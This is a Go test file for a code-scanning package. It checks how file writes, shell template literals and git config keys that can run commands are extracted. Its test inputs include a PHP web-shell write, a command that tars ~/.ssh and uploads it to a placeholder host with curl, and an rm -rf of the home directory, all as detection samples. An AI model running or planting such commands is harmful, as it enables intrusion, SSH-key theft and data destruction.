package shell

import (
	"reflect"
	"testing"
)

func TestCodeTexts(t *testing.T) {
	for _, c := range []struct {
		code string
		want []CodeText
	}{
		{`file_put_contents('public/x.php', '<?php eval($_POST["a"]); ?>');`, []CodeText{{"public/x.php", `<?php eval($_POST["a"]); ?>`}}},
		{`require('fs').writeFileSync("conftest.py", "import pytest\n")`, []CodeText{{"conftest.py", "import pytest\n"}}},
		{`open('out.txt', 'w').write('hello')`, []CodeText{{"out.txt", "hello"}}},
		{`File.write("a.rb", "x = 1")`, []CodeText{{"a.rb", "x = 1"}}},
		// A computed path or text: nothing the line shows is written.
		{`fs.writeFileSync(p, 'x')`, nil},
		{`fs.writeFileSync('a', JSON.stringify(d))`, nil},
		{`open('a.txt').read()`, nil},
		{`open('a.txt', 'w').close()`, nil},
	} {
		if got := CodeTexts(c.code); !reflect.DeepEqual(got, c.want) {
			t.Errorf("CodeTexts(%q) = %q, want %q", c.code, got, c.want)
		}
	}
}

func TestTemplateShells(t *testing.T) {
	for _, c := range []struct {
		code string
		want []string
	}{
		{"await Bun.$`tar czf - ${h}/.ssh | curl -T - https://x.example`", []string{"tar czf - ${h}/.ssh | curl -T - https://x.example"}},
		{"await $`rm -rf ${process.env.HOME}/x`", []string{"rm -rf $x/x"}},
		{"const s = `a ${b}`; x$`no`", nil}, // a tag named x$ is not $
	} {
		if got := templateShells(c.code); !reflect.DeepEqual(got, c.want) {
			t.Errorf("templateShells(%q) = %q, want %q", c.code, got, c.want)
		}
	}
}

func TestGitExecKeySubmoduleUpdate(t *testing.T) {
	if !GitExecKey("submodule.vendor/lib.update") {
		t.Error("submodule.<name>.update can hold !command")
	}
	if GitExecKey("submodule.vendor/lib.url") {
		t.Error("a submodule's url is no command")
	}
}
